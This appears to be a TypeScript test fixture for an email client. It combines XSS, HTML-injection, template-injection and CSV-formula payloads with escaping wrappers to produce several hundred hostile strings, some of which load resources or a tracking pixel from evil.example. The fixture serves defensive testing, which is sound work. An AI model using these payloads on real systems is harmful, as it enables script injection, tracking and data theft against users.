// What mail can carry to break out of a page: every vector in every wrapping, several hundred of them. WEB-01
const js = 'globalThis.pwned=1'

const vectors = [
  `<script>${js}</script>`,
  `<img src=x onerror=${js}>`,
  `<svg onload=${js}>`,
  `<svg><script>${js}</script></svg>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<body onload=${js}>`,
  `<input autofocus onfocus=${js}>`,
  `<details open ontoggle=${js}>`,
  `<video><source onerror=${js}></video>`,
  `<a href="javascript:${js}">x</a>`,
  `<a href="data:text/html,<script>opener.pwned=1</script>">x</a>`,
  `<form action="javascript:${js}"><button>x</button></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${js}></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${js}>"></noscript>`,
  `<template><script>${js}</script></template>`,
  `<style>@import 'http://evil.example/x.css';*{background:url(http://evil.example/y)}</style>`,
  `<link rel=stylesheet href=http://evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=http://evil.example/">`,
  `<base href=http://evil.example/>`,
  `<object data="javascript:${js}"></object>`,
  `<img src=http://evil.example/pixel.gif>`,
  `{{constructor.constructor('${js}')()}}`,
  '${' + js + '}',
  `{#if ${js}}x{/if}{@html '<img src=x onerror=${js}>'}`,
  `javascript:${js}`,
  `=cmd|' /C calc'!A0`,
] as const

const wrappings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `"${text}`,
  (text) => `'${text}`,
  (text) => `">${text}<"`,
  (text) => `'>${text}<'`,
  (text) => `</title>${text}`,
  (text) => `</textarea>${text}`,
  (text) => `</script>${text}`,
  (text) => `</style>${text}`,
  (text) => `-->${text}<!--`,
  (text) => `]]>${text}`,
  (text) => `\u202e${text}\u202c`,
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '\u003c').replaceAll('script', 'ScRiPt'),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll('=', ' = '),
  (text) => `\\u003c${text}`,
  (text) => `%3Cx%3E${text}`,
  (text) => `${text}${'x'.repeat(40)}`,
  (text) => `Re: ${text} (was: ${text})`,
]

/** Without line ends: they stand in one field. */
export const hostileTexts: readonly string[] = vectors.flatMap((vector) => wrappings.map((wrap) => wrap(vector)))
